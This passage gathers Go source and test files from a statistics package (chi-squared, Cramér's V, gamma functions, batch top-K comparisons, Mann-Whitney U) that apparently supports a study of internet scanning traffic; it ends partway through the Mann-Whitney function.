	if !reflect.DeepEqual(got, want) {
		t.Errorf("UnionTopK = %v, want %v", got, want)
	}
}

func TestContingency(t *testing.T) {
	a := Freq{"x": 2, "y": 3}
	b := Freq{"x": 4}
	obs := Contingency([]string{"x", "y"}, a, b)
	want := [][]float64{{2, 3}, {4, 0}}
	if !reflect.DeepEqual(obs, want) {
		t.Errorf("Contingency = %v, want %v", obs, want)
	}
}

func TestCompareTopKIdentical(t *testing.T) {
	a := Freq{"as1": 100, "as2": 50, "as3": 25}
	res, err := CompareTopK(3, a, a.Clone())
	if err != nil {
		t.Fatal(err)
	}
	if res.P < 0.999 {
		t.Errorf("identical tables p = %v, want ≈1", res.P)
	}
}

func TestCompareTopKDisjoint(t *testing.T) {
	a := Freq{"as1": 100, "as2": 90, "as3": 80}
	b := Freq{"as4": 100, "as5": 90, "as6": 80}
	res, err := CompareTopK(3, a, b)
	if err != nil {
		t.Fatal(err)
	}
	if res.P > 1e-6 {
		t.Errorf("disjoint tables p = %v, want ≈0", res.P)
	}
	if res.CramersV < 0.9 {
		t.Errorf("disjoint tables V = %v, want ≈1", res.CramersV)
	}
}

func TestCompareTopKSingleSharedCategory(t *testing.T) {
	a := Freq{"only": 10}
	b := Freq{"only": 20}
	res, err := CompareTopK(3, a, b)
	if err != nil {
		t.Fatal(err)
	}
	if res.P != 1 {
		t.Errorf("single shared category p = %v, want 1", res.P)
	}
	if res.N != 30 {
		t.Errorf("N = %d, want 30", res.N)
	}
}

func TestCompareBinary(t *testing.T) {
	res, err := CompareBinary(50, 50, 50, 50)
	if err != nil {
		t.Fatal(err)
	}
	if res.P < 0.999 {
		t.Errorf("identical splits p = %v", res.P)
	}
	res, err = CompareBinary(95, 5, 5, 95)
	if err != nil {
		t.Fatal(err)
	}
	if res.P > 1e-10 {
		t.Errorf("opposite splits p = %v", res.P)
	}
}

func TestCompareTopKSymmetryProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		mk := func() Freq {
			fr := Freq{}
			n := 1 + rng.Intn(8)
			for i := 0; i < n; i++ {
				fr.Add(string(rune('a'+rng.Intn(10))), float64(1+rng.Intn(100)))
			}
			return fr
		}
		a, b := mk(), mk()
		r1, err1 := CompareTopK(3, a, b)
		r2, err2 := CompareTopK(3, b, a)
		if (err1 == nil) != (err2 == nil) {
			return false
		}
		if err1 != nil {
			return true // both erroring symmetrically is fine
		}
		return almostEqual(r1.Statistic, r2.Statistic, 1e-9)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 250}); err != nil {
		t.Error(err)
	}
}

func TestTopKDeterministicProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		fr := Freq{}
		n := rng.Intn(12)
		for i := 0; i < n; i++ {
			fr.Add(string(rune('a'+rng.Intn(8))), float64(rng.Intn(5)+1))
		}
		a := fr.TopK(3)
		b := fr.TopK(3)
		return reflect.DeepEqual(a, b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}
