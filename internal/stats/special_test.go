package stats

import (
	"math"
	"testing"
	"testing/quick"
)

func almostEqual(a, b, tol float64) bool {
	return math.Abs(a-b) <= tol
}

func TestGammaPKnownValues(t *testing.T) {
	// P(1, x) = 1 - exp(-x); P(0.5, x) = erf(sqrt(x)).
	cases := []struct {
		a, x, want float64
	}{
		{1, 0, 0},
		{1, 1, 1 - math.Exp(-1)},
		{1, 5, 1 - math.Exp(-5)},
		{0.5, 1, math.Erf(1)},
		{0.5, 4, math.Erf(2)},
		{2, 3, 1 - math.Exp(-3)*(1+3)},
		{3, 2, 1 - math.Exp(-2)*(1+2+2)},
	}
	for _, c := range cases {
		got, err := GammaP(c.a, c.x)
		if err != nil {
			t.Fatalf("GammaP(%v,%v): %v", c.a, c.x, err)
		}
		if !almostEqual(got, c.want, 1e-10) {
			t.Errorf("GammaP(%v,%v) = %v, want %v", c.a, c.x, got, c.want)
		}
	}
}

func TestGammaPQComplementary(t *testing.T) {
	for _, a := range []float64{0.3, 0.5, 1, 2.5, 7, 30, 100} {
		for _, x := range []float64{0.01, 0.5, 1, 3, 10, 50, 200} {
			p, err1 := GammaP(a, x)
			q, err2 := GammaQ(a, x)
			if err1 != nil || err2 != nil {
				t.Fatalf("a=%v x=%v: %v %v", a, x, err1, err2)
			}
			if !almostEqual(p+q, 1, 1e-9) {
				t.Errorf("P+Q = %v for a=%v x=%v", p+q, a, x)
			}
		}
	}
}

func TestGammaDomainErrors(t *testing.T) {
	if _, err := GammaP(0, 1); err != ErrDomain {
		t.Errorf("GammaP(0,1) err = %v, want ErrDomain", err)
	}
	if _, err := GammaP(1, -1); err != ErrDomain {
		t.Errorf("GammaP(1,-1) err = %v, want ErrDomain", err)
	}
	if _, err := GammaQ(-2, 1); err != ErrDomain {
		t.Errorf("GammaQ(-2,1) err = %v, want ErrDomain", err)
	}
	if _, err := GammaQ(math.NaN(), 1); err != ErrDomain {
		t.Errorf("GammaQ(NaN,1) err = %v, want ErrDomain", err)
	}
}

func TestChiSquareSurvivalKnownValues(t *testing.T) {
	// Reference values from standard chi-squared tables.
	cases := []struct {
		x    float64
		df   int
		want float64
	}{
		{3.841, 1, 0.05},
		{6.635, 1, 0.01},
		{5.991, 2, 0.05},
		{7.815, 3, 0.05},
		{9.488, 4, 0.05},
		{18.307, 10, 0.05},
	}
	for _, c := range cases {
		got, err := ChiSquareSurvival(c.x, c.df)
		if err != nil {
			t.Fatalf("ChiSquareSurvival(%v,%d): %v", c.x, c.df, err)
		}
		if !almostEqual(got, c.want, 5e-4) {
			t.Errorf("ChiSquareSurvival(%v,%d) = %v, want ≈%v", c.x, c.df, got, c.want)
		}
	}
}

func TestChiSquareSurvivalEdge(t *testing.T) {
	if p, _ := ChiSquareSurvival(0, 3); p != 1 {
		t.Errorf("survival at 0 = %v, want 1", p)
	}
	if p, _ := ChiSquareSurvival(-5, 3); p != 1 {
		t.Errorf("survival at negative = %v, want 1", p)
	}
	if _, err := ChiSquareSurvival(1, 0); err == nil {
		t.Error("df=0 should error")
	}
}

func TestNormalSurvivalKnownValues(t *testing.T) {
	cases := []struct{ z, want float64 }{
		{0, 0.5},
		{1.6449, 0.05},
		{1.96, 0.025},
		{2.3263, 0.01},
		{-1.96, 0.975},
	}
	for _, c := range cases {
		if got := NormalSurvival(c.z); !almostEqual(got, c.want, 5e-4) {
			t.Errorf("NormalSurvival(%v) = %v, want ≈%v", c.z, got, c.want)
		}
	}
}

func TestKolmogorovSurvival(t *testing.T) {
	// Q(1.36) ≈ 0.049 (classic critical value for α=0.05).
	if got := KolmogorovSurvival(1.36); !almostEqual(got, 0.049, 2e-3) {
		t.Errorf("KolmogorovSurvival(1.36) = %v, want ≈0.049", got)
	}
	if got := KolmogorovSurvival(0); got != 1 {
		t.Errorf("KolmogorovSurvival(0) = %v, want 1", got)
	}
	if got := KolmogorovSurvival(10); got > 1e-10 {
		t.Errorf("KolmogorovSurvival(10) = %v, want ≈0", got)
	}
}

func TestGammaPMonotoneInXProperty(t *testing.T) {
	f := func(aRaw, xRaw, dxRaw float64) bool {
		a := 0.1 + math.Abs(math.Mod(aRaw, 50))
		x := math.Abs(math.Mod(xRaw, 100))
		dx := math.Abs(math.Mod(dxRaw, 10))
		p1, err1 := GammaP(a, x)
		p2, err2 := GammaP(a, x+dx)
		if err1 != nil || err2 != nil {
			return false
		}
		return p2 >= p1-1e-9 && p1 >= 0 && p2 <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Error(err)
	}
}

func TestKolmogorovSurvivalMonotoneProperty(t *testing.T) {
	f := func(aRaw, dRaw float64) bool {
		a := math.Abs(math.Mod(aRaw, 3))
		d := math.Abs(math.Mod(dRaw, 1))
		q1 := KolmogorovSurvival(a)
		q2 := KolmogorovSurvival(a + d)
		return q2 <= q1+1e-9 && q1 >= 0 && q1 <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Error(err)
	}
}
