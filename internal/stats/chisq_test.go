package stats

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestChiSquareIdenticalRows(t *testing.T) {
	res, err := ChiSquare([][]float64{{10, 20, 30}, {10, 20, 30}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Statistic > 1e-9 {
		t.Errorf("identical rows should give chi2≈0, got %v", res.Statistic)
	}
	if res.P < 0.999 {
		t.Errorf("identical rows should give p≈1, got %v", res.P)
	}
	if res.CramersV > 1e-6 {
		t.Errorf("identical rows should give V≈0, got %v", res.CramersV)
	}
	if res.Magnitude != EffectNone {
		t.Errorf("magnitude = %v, want none", res.Magnitude)
	}
}

func TestChiSquare2x2KnownValue(t *testing.T) {
	// Classic worked example: chi2 = n(ad-bc)^2 / ((a+b)(c+d)(a+c)(b+d)).
	a, b, c, d := 20.0, 30.0, 30.0, 20.0
	res, err := ChiSquare([][]float64{{a, b}, {c, d}})
	if err != nil {
		t.Fatal(err)
	}
	n := a + b + c + d
	want := n * math.Pow(a*d-b*c, 2) / ((a + b) * (c + d) * (a + c) * (b + d))
	if !almostEqual(res.Statistic, want, 1e-9) {
		t.Errorf("chi2 = %v, want %v", res.Statistic, want)
	}
	if res.DF != 1 {
		t.Errorf("df = %d, want 1", res.DF)
	}
	// For 2x2, V = sqrt(chi2/n) = |phi coefficient|.
	if !almostEqual(res.CramersV, math.Sqrt(want/n), 1e-9) {
		t.Errorf("V = %v, want %v", res.CramersV, math.Sqrt(want/n))
	}
}

func TestChiSquareExtremeDifference(t *testing.T) {
	res, err := ChiSquare([][]float64{{1000, 1}, {1, 1000}})
	if err != nil {
		t.Fatal(err)
	}
	if res.P > 1e-10 {
		t.Errorf("p = %v, want ≈0", res.P)
	}
	if res.CramersV < 0.9 {
		t.Errorf("V = %v, want ≈1", res.CramersV)
	}
	if res.Magnitude != EffectLarge {
		t.Errorf("magnitude = %v, want large", res.Magnitude)
	}
}

func TestChiSquareErrors(t *testing.T) {
	if _, err := ChiSquare(nil); err != ErrTableShape {
		t.Errorf("nil table: %v, want ErrTableShape", err)
	}
	if _, err := ChiSquare([][]float64{{1, 2}}); err != ErrTableShape {
		t.Errorf("one row: %v, want ErrTableShape", err)
	}
	if _, err := ChiSquare([][]float64{{1}, {2}}); err != ErrTableShape {
		t.Errorf("one column: %v, want ErrTableShape", err)
	}
	if _, err := ChiSquare([][]float64{{0, 0}, {0, 0}}); err != ErrTableEmpty {
		t.Errorf("empty: %v, want ErrTableEmpty", err)
	}
	if _, err := ChiSquare([][]float64{{0, 0}, {1, 2}}); err != ErrZeroMargin {
		t.Errorf("zero row: %v, want ErrZeroMargin", err)
	}
	if _, err := ChiSquare([][]float64{{0, 2}, {0, 2}}); err != ErrZeroMargin {
		t.Errorf("zero column: %v, want ErrZeroMargin", err)
	}
	if _, err := ChiSquare([][]float64{{1, 2}, {3}}); err == nil {
		t.Error("ragged table should error")
	}
	if _, err := ChiSquare([][]float64{{1, -2}, {3, 4}}); err == nil {
		t.Error("negative count should error")
	}
}

func TestChiSquareColumnPermutationInvariantProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		cols := 2 + rng.Intn(6)
		a := make([]float64, cols)
		b := make([]float64, cols)
		for j := range a {
			a[j] = float64(1 + rng.Intn(200))
			b[j] = float64(1 + rng.Intn(200))
		}
		r1, err := ChiSquare([][]float64{a, b})
		if err != nil {
			return false
		}
		perm := rng.Perm(cols)
		pa := make([]float64, cols)
		pb := make([]float64, cols)
		for j, p := range perm {
			pa[j], pb[j] = a[p], b[p]
		}
		r2, err := ChiSquare([][]float64{pa, pb})
		if err != nil {
			return false
		}
		return almostEqual(r1.Statistic, r2.Statistic, 1e-6) && almostEqual(r1.CramersV, r2.CramersV, 1e-9)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestChiSquareRowSwapInvariantProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		cols := 2 + rng.Intn(5)
		a := make([]float64, cols)
		b := make([]float64, cols)
		for j := range a {
			a[j] = float64(1 + rng.Intn(100))
			b[j] = float64(1 + rng.Intn(100))
		}
		r1, err1 := ChiSquare([][]float64{a, b})
		r2, err2 := ChiSquare([][]float64{b, a})
		if err1 != nil || err2 != nil {
			return false
		}
		return almostEqual(r1.Statistic, r2.Statistic, 1e-9)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestCramersVRangeProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		rows := 2 + rng.Intn(3)
		cols := 2 + rng.Intn(5)
		obs := make([][]float64, rows)
		for i := range obs {
			obs[i] = make([]float64, cols)
			for j := range obs[i] {
				obs[i][j] = float64(1 + rng.Intn(500))
			}
		}
		res, err := ChiSquare(obs)
		if err != nil {
			return false
		}
		return res.CramersV >= 0 && res.CramersV <= 1 && res.P >= 0 && res.P <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestMagnitudeThresholds(t *testing.T) {
	cases := []struct {
		v      float64
		dfStar int
		want   EffectMagnitude
	}{
		{0.05, 1, EffectNone},
		{0.12, 1, EffectSmall},
		{0.31, 1, EffectMedium},
		{0.50, 1, EffectLarge},
		{0.82, 1, EffectLarge},
		// df*=2: thresholds scale by 1/sqrt(2) ≈ 0.071/0.212/0.354.
		{0.08, 2, EffectSmall},
		{0.25, 2, EffectMedium},
		{0.39, 2, EffectLarge},
		// df*<1 treated as 1.
		{0.2, 0, EffectSmall},
	}
	for _, c := range cases {
		if got := Magnitude(c.v, c.dfStar); got != c.want {
			t.Errorf("Magnitude(%v, %d) = %v, want %v", c.v, c.dfStar, got, c.want)
		}
	}
}

func TestMagnitudeString(t *testing.T) {
	cases := map[EffectMagnitude]string{
		EffectNone:         "none",
		EffectSmall:        "small",
		EffectMedium:       "medium",
		EffectLarge:        "large",
		EffectMagnitude(9): "EffectMagnitude(9)",
	}
	for m, want := range cases {
		if got := m.String(); got != want {
			t.Errorf("%d.String() = %q, want %q", int(m), got, want)
		}
	}
}

func TestBonferroni(t *testing.T) {
	if got := Bonferroni(0.05, 10); !almostEqual(got, 0.005, 1e-12) {
		t.Errorf("Bonferroni(0.05,10) = %v", got)
	}
	if got := Bonferroni(0.05, 0); got != 0.05 {
		t.Errorf("Bonferroni(0.05,0) = %v, want 0.05", got)
	}
}

func TestSignificantWithBonferroni(t *testing.T) {
	res := ChiSquareResult{P: 0.01}
	if !res.Significant(0.05, 1) {
		t.Error("p=0.01 should be significant at alpha=0.05, m=1")
	}
	if res.Significant(0.05, 10) {
		t.Error("p=0.01 should NOT be significant at alpha=0.05, m=10 (cutoff 0.005)")
	}
}

func TestChiSquareGoodnessOfFitUniform(t *testing.T) {
	res, err := ChiSquareGoodnessOfFit([]float64{25, 25, 25, 25}, []float64{1, 1, 1, 1})
	if err != nil {
		t.Fatal(err)
	}
	if res.Statistic > 1e-9 || res.P < 0.999 {
		t.Errorf("uniform fit: chi2=%v p=%v", res.Statistic, res.P)
	}
	res, err = ChiSquareGoodnessOfFit([]float64{90, 10, 0, 0}, []float64{1, 1, 1, 1})
	if err == nil && res.P > 1e-6 {
		t.Errorf("extreme fit should be significant: p=%v", res.P)
	}
}

func TestChiSquareGoodnessOfFitErrors(t *testing.T) {
	if _, err := ChiSquareGoodnessOfFit([]float64{1}, []float64{1}); err != ErrTableShape {
		t.Errorf("short input: %v", err)
	}
	if _, err := ChiSquareGoodnessOfFit([]float64{1, 2}, []float64{1}); err != ErrTableShape {
		t.Errorf("mismatched: %v", err)
	}
	if _, err := ChiSquareGoodnessOfFit([]float64{0, 0}, []float64{1, 1}); err != ErrTableEmpty {
		t.Errorf("empty: %v", err)
	}
	if _, err := ChiSquareGoodnessOfFit([]float64{1, 2}, []float64{0, 1}); err == nil {
		t.Error("zero proportion should error")
	}
}
