package stats

import (
	"fmt"
	"math/rand"
	"reflect"
	"testing"
)

// randomTables builds deterministic pseudo-random frequency tables
// with deliberate count ties (to exercise rank tie-breaking) and
// overlapping key sets (to exercise union building).
func randomTables(seed int64, n int) []Freq {
	rng := rand.New(rand.NewSource(seed))
	keys := make([]string, 12)
	for i := range keys {
		keys[i] = fmt.Sprintf("AS%c", 'a'+i)
	}
	tables := make([]Freq, n)
	for t := range tables {
		f := Freq{}
		for _, key := range keys {
			if rng.Intn(3) == 0 {
				continue // key absent from this table
			}
			// Small integer counts: ties are frequent.
			f[key] = float64(rng.Intn(6))
			if f[key] == 0 {
				delete(f, key)
			}
		}
		tables[t] = f
	}
	return tables
}

func summaries(tables []Freq) []TableSummary {
	out := make([]TableSummary, len(tables))
	for i, t := range tables {
		out[i] = Summarize(t)
	}
	return out
}

// TestBatchCompareMatchesCompareTopK is the engine's core guarantee:
// for every pair and every K, PairComparer.Compare returns exactly
// what CompareTopK returns — same result struct, same error.
func TestBatchCompareMatchesCompareTopK(t *testing.T) {
	for _, seed := range []int64{1, 2, 3} {
		tables := randomTables(seed, 9)
		sums := summaries(tables)
		for _, k := range []int{1, 2, 3, 5, 10} {
			set := NewBatchSet(k, sums)
			pc := set.Comparer()
			for i := 0; i < len(tables); i++ {
				for j := 0; j < len(tables); j++ {
					if i == j {
						continue
					}
					got, gotErr := pc.Compare(i, j)
					want, wantErr := CompareTopK(k, tables[i], tables[j])
					if (gotErr == nil) != (wantErr == nil) {
						t.Fatalf("seed %d k %d pair (%d,%d): err %v, want %v", seed, k, i, j, gotErr, wantErr)
					}
					if gotErr != nil && gotErr.Error() != wantErr.Error() {
						t.Fatalf("seed %d k %d pair (%d,%d): err %q, want %q", seed, k, i, j, gotErr, wantErr)
					}
					if got != want {
						t.Fatalf("seed %d k %d pair (%d,%d):\n got %+v\nwant %+v", seed, k, i, j, got, want)
					}
				}
			}
		}
	}
}

// TestBatchUnionMatchesUnionTopK checks the merged id union decodes to
// exactly UnionTopK's category list, in the same order.
func TestBatchUnionMatchesUnionTopK(t *testing.T) {
	tables := randomTables(7, 6)
	for _, k := range []int{1, 3, 5} {
		set := NewBatchSet(k, summaries(tables))
		pc := set.Comparer()
		for i := 0; i < len(tables); i++ {
			for j := i + 1; j < len(tables); j++ {
				var got []string
				for _, id := range pc.Union(i, j) {
					got = append(got, set.Key(id))
				}
				want := UnionTopK(k, tables[i], tables[j])
				if !reflect.DeepEqual(got, want) {
					t.Fatalf("k %d pair (%d,%d): union %v, want %v", k, i, j, got, want)
				}
			}
		}
	}
}

// TestBatchCompareCountedZeroCells checks the ablation metrics against
// direct recomputation from UnionTopK.
func TestBatchCompareCountedZeroCells(t *testing.T) {
	tables := randomTables(11, 6)
	k := 4
	set := NewBatchSet(k, summaries(tables))
	pc := set.Comparer()
	for i := 0; i < len(tables); i++ {
		for j := i + 1; j < len(tables); j++ {
			_, width, zeros, _ := pc.CompareCounted(i, j)
			union := UnionTopK(k, tables[i], tables[j])
			wantZeros := 0
			for _, key := range union {
				if tables[i][key] == 0 || tables[j][key] == 0 {
					wantZeros++
				}
			}
			if width != len(union) || zeros != wantZeros {
				t.Fatalf("pair (%d,%d): width/zeros = %d/%d, want %d/%d", i, j, width, zeros, len(union), wantZeros)
			}
		}
	}
}

// TestBatchCompareEdgeCases pins the degenerate paths: empty tables,
// identical single-category tables, and disjoint single categories.
func TestBatchCompareEdgeCases(t *testing.T) {
	tables := []Freq{
		{},                       // 0: empty
		{"x": 5},                 // 1: single category
		{"x": 9},                 // 2: same single category
		{"y": 4},                 // 3: disjoint single category
		{"x": 3, "y": 2, "z": 1}, // 4: superset
	}
	set := NewBatchSet(3, summaries(tables))
	pc := set.Comparer()
	for i := range tables {
		for j := range tables {
			if i == j {
				continue
			}
			got, gotErr := pc.Compare(i, j)
			want, wantErr := CompareTopK(3, tables[i], tables[j])
			if got != want || (gotErr == nil) != (wantErr == nil) {
				t.Fatalf("pair (%d,%d): got %+v/%v, want %+v/%v", i, j, got, gotErr, want, wantErr)
			}
		}
	}
	// Identical single-category pair takes the P=1 short-circuit with
	// full-table totals.
	res, err := pc.Compare(1, 2)
	if err != nil || res.P != 1 || res.N != 14 {
		t.Fatalf("single-category pair: %+v, %v", res, err)
	}
}

// TestSummarizeRankedOrder pins the ranked order contract: count
// descending, key ascending on ties, full length.
func TestSummarizeRankedOrder(t *testing.T) {
	f := Freq{"b": 2, "a": 2, "c": 5, "d": 1}
	s := Summarize(f)
	want := []string{"c", "a", "b", "d"}
	if !reflect.DeepEqual(s.Ranked, want) {
		t.Fatalf("ranked = %v, want %v", s.Ranked, want)
	}
	if s.Total != 10 {
		t.Fatalf("total = %v, want 10", s.Total)
	}
}

func BenchmarkBatchCompare(b *testing.B) {
	tables := randomTables(5, 16)
	sums := summaries(tables)
	set := NewBatchSet(3, sums)
	pc := set.Comparer()
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		for i := 0; i < len(tables); i++ {
			for j := i + 1; j < len(tables); j++ {
				pc.Compare(i, j)
			}
		}
	}
}

func BenchmarkNaiveCompareTopK(b *testing.B) {
	tables := randomTables(5, 16)
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		for i := 0; i < len(tables); i++ {
			for j := i + 1; j < len(tables); j++ {
				CompareTopK(3, tables[i], tables[j])
			}
		}
	}
}
