package stats

import (
	"errors"
	"fmt"
	"math"
)

// Errors returned by the contingency-table routines.
var (
	ErrTableShape = errors.New("stats: contingency table needs at least 2 rows and 2 columns")
	ErrTableEmpty = errors.New("stats: contingency table has zero total count")
	ErrZeroMargin = errors.New("stats: contingency table has an all-zero row or column")
)

// EffectMagnitude buckets a Cramér's V effect size. The thresholds
// depend on the degrees of freedom (see Magnitude), mirroring the
// paper's note that "identical φ values can represent different effect
// sizes if the degrees of freedom between two tests are different".
type EffectMagnitude int

// Effect-size buckets, ordered by strength.
const (
	EffectNone EffectMagnitude = iota
	EffectSmall
	EffectMedium
	EffectLarge
)

// String returns the lowercase bucket name used in the paper's tables.
func (m EffectMagnitude) String() string {
	switch m {
	case EffectNone:
		return "none"
	case EffectSmall:
		return "small"
	case EffectMedium:
		return "medium"
	case EffectLarge:
		return "large"
	default:
		return fmt.Sprintf("EffectMagnitude(%d)", int(m))
	}
}

// ChiSquareResult holds the outcome of a chi-squared test of
// homogeneity/independence on a contingency table.
type ChiSquareResult struct {
	Statistic float64         // chi-squared statistic
	DF        int             // degrees of freedom (r-1)(c-1)
	P         float64         // upper-tail p-value
	N         int             // total observations
	CramersV  float64         // effect size φ in [0, 1]
	Magnitude EffectMagnitude // dof-aware bucket of CramersV
}

// Significant reports whether the test rejects the null hypothesis at
// significance level alpha after a Bonferroni correction for
// comparisons simultaneous tests. comparisons values below 1 are
// treated as 1 (no correction).
func (r ChiSquareResult) Significant(alpha float64, comparisons int) bool {
	return r.P < Bonferroni(alpha, comparisons)
}

// Bonferroni returns the per-test significance level alpha/m for m
// simultaneous comparisons; m < 1 is treated as 1.
func Bonferroni(alpha float64, m int) float64 {
	if m < 1 {
		m = 1
	}
	return alpha / float64(m)
}

// ChiSquare runs a chi-squared test on an r×c contingency table of
// observed counts. Rows typically correspond to vantage points and
// columns to categorical values (e.g. the union of top-3 scanning
// ASes). All rows must have the same length. Rows or columns whose
// marginal total is zero are rejected with ErrZeroMargin because they
// make expected frequencies zero, which the paper's methodology
// explicitly avoids ("we ... ensure the expected frequency of a
// variable is larger than zero").
func ChiSquare(observed [][]float64) (ChiSquareResult, error) {
	r := len(observed)
	if r < 2 {
		return ChiSquareResult{}, ErrTableShape
	}
	c := len(observed[0])
	if c < 2 {
		return ChiSquareResult{}, ErrTableShape
	}
	rowSum := make([]float64, r)
	colSum := make([]float64, c)
	total := 0.0
	for i, row := range observed {
		if len(row) != c {
			return ChiSquareResult{}, fmt.Errorf("stats: ragged contingency table: row %d has %d columns, want %d", i, len(row), c)
		}
		for j, v := range row {
			if !validCount(v) {
				return ChiSquareResult{}, invalidCountErr(v, i, j)
			}
			rowSum[i] += v
			colSum[j] += v
			total += v
		}
	}
	if total == 0 {
		return ChiSquareResult{}, ErrTableEmpty
	}
	for _, s := range rowSum {
		if s == 0 {
			return ChiSquareResult{}, ErrZeroMargin
		}
	}
	for _, s := range colSum {
		if s == 0 {
			return ChiSquareResult{}, ErrZeroMargin
		}
	}

	stat := 0.0
	for i := 0; i < r; i++ {
		for j := 0; j < c; j++ {
			expected := rowSum[i] * colSum[j] / total
			d := observed[i][j] - expected
			stat += d * d / expected
		}
	}
	df := (r - 1) * (c - 1)
	p, err := ChiSquareSurvival(stat, df)
	if err != nil {
		return ChiSquareResult{}, err
	}
	minDim := r
	if c < r {
		minDim = c
	}
	v := math.Sqrt(stat / (total * float64(minDim-1)))
	if v > 1 { // guard against floating-point overshoot
		v = 1
	}
	res := ChiSquareResult{
		Statistic: stat,
		DF:        df,
		P:         p,
		N:         int(math.Round(total)),
		CramersV:  v,
	}
	res.Magnitude = Magnitude(v, minDim-1)
	return res, nil
}

// validCount reports whether v is a legal contingency-table count.
func validCount(v float64) bool {
	return v >= 0 && !math.IsNaN(v) && !math.IsInf(v, 0)
}

func invalidCountErr(v float64, i, j int) error {
	return fmt.Errorf("stats: invalid count %v at (%d,%d)", v, i, j)
}

// finishTwoRowResult completes a 2×c chi-squared test from its
// statistic: the p-value, Cramér's V (minDim-1 = 1 for two rows), and
// the dof-aware magnitude — the same arithmetic ChiSquare performs.
func finishTwoRowResult(stat float64, c int, total float64) (ChiSquareResult, error) {
	df := c - 1
	p, err := ChiSquareSurvival(stat, df)
	if err != nil {
		return ChiSquareResult{}, err
	}
	v := math.Sqrt(stat / total)
	if v > 1 { // guard against floating-point overshoot
		v = 1
	}
	res := ChiSquareResult{
		Statistic: stat,
		DF:        df,
		P:         p,
		N:         int(math.Round(total)),
		CramersV:  v,
	}
	res.Magnitude = Magnitude(v, 1)
	return res, nil
}

// Magnitude classifies a Cramér's V value into small/medium/large
// using Cohen's dof-dependent thresholds, where dfStar is
// min(rows, cols) − 1 of the contingency table. Larger tables need a
// smaller V for the same qualitative strength: the cutoffs are Cohen's
// w thresholds (0.1, 0.3, 0.5) scaled by 1/√dfStar.
func Magnitude(v float64, dfStar int) EffectMagnitude {
	if dfStar < 1 {
		dfStar = 1
	}
	scale := math.Sqrt(float64(dfStar))
	small, medium, large := 0.1/scale, 0.3/scale, 0.5/scale
	switch {
	case v >= large:
		return EffectLarge
	case v >= medium:
		return EffectMedium
	case v >= small:
		return EffectSmall
	default:
		return EffectNone
	}
}

// ChiSquareGoodnessOfFit tests observed counts against expected
// proportions (which are normalized internally). It is used for
// single-distribution checks such as "is traffic uniform across
// neighboring IPs".
func ChiSquareGoodnessOfFit(observed []float64, expectedProportions []float64) (ChiSquareResult, error) {
	k := len(observed)
	if k < 2 || len(expectedProportions) != k {
		return ChiSquareResult{}, ErrTableShape
	}
	total := 0.0
	propSum := 0.0
	for i := 0; i < k; i++ {
		if observed[i] < 0 || expectedProportions[i] <= 0 {
			return ChiSquareResult{}, fmt.Errorf("stats: invalid cell %d (observed=%v, proportion=%v)", i, observed[i], expectedProportions[i])
		}
		total += observed[i]
		propSum += expectedProportions[i]
	}
	if total == 0 {
		return ChiSquareResult{}, ErrTableEmpty
	}
	stat := 0.0
	for i := 0; i < k; i++ {
		expected := total * expectedProportions[i] / propSum
		d := observed[i] - expected
		stat += d * d / expected
	}
	df := k - 1
	p, err := ChiSquareSurvival(stat, df)
	if err != nil {
		return ChiSquareResult{}, err
	}
	v := math.Sqrt(stat / (total * float64(df)))
	if v > 1 {
		v = 1
	}
	res := ChiSquareResult{Statistic: stat, DF: df, P: p, N: int(math.Round(total)), CramersV: v}
	res.Magnitude = Magnitude(v, df)
	return res, nil
}
