package stats

import (
	"errors"
	"math"
	"sort"
)

// ErrSampleSize reports a sample too small for the requested test.
var ErrSampleSize = errors.New("stats: sample too small")

// MWUAlternative selects the alternative hypothesis of a Mann-Whitney
// U test.
type MWUAlternative int

// Alternatives for MannWhitneyU. The paper's §4.3 uses Greater: "we use
// a one-sided Mann-Whitney U test to evaluate whether the volume of
// traffic per hour that targets leaked services is stochastically
// greater than the volume targeting the control group".
const (
	// AlternativeTwoSided tests x ≠ y.
	AlternativeTwoSided MWUAlternative = iota
	// AlternativeGreater tests that x is stochastically greater than y.
	AlternativeGreater
	// AlternativeLess tests that x is stochastically less than y.
	AlternativeLess
)

// MannWhitneyResult holds the outcome of a Mann-Whitney U test.
type MannWhitneyResult struct {
	U1 float64 // U statistic of sample x
	U2 float64 // U statistic of sample y (U1 + U2 = len(x)*len(y))
	Z  float64 // tie-corrected normal approximation with continuity correction
	P  float64 // p-value under the requested alternative
}

// MannWhitneyU performs the Mann-Whitney U rank-sum test comparing two
// independent samples using the tie-corrected normal approximation
// with continuity correction. Both samples must contain at least one
// observation; the normal approximation is reasonable from n≈8
// onward, matching the experiment sizes in §4.3 (traffic-per-hour
// vectors over a week: n=168).
func MannWhitneyU(x, y []float64, alt MWUAlternative) (MannWhitneyResult, error) {
	n1, n2 := len(x), len(y)
	if n1 == 0 || n2 == 0 {
		return MannWhitneyResult{}, ErrSampleSize
	}
	ranks, tieTerm := midRanks(x, y)
	r1 := 0.0
	for i := 0; i < n1; i++ {
		r1 += ranks[i]
	}
	fn1, fn2 := float64(n1), float64(n2)
	u1 := r1 - fn1*(fn1+1)/2
	u2 := fn1*fn2 - u1

	mu := fn1 * fn2 / 2
	n := fn1 + fn2
	sigma2 := fn1 * fn2 / 12 * ((n + 1) - tieTerm/(n*(n-1)))
	if sigma2 <= 0 {
		// All observations tied: no evidence against the null.
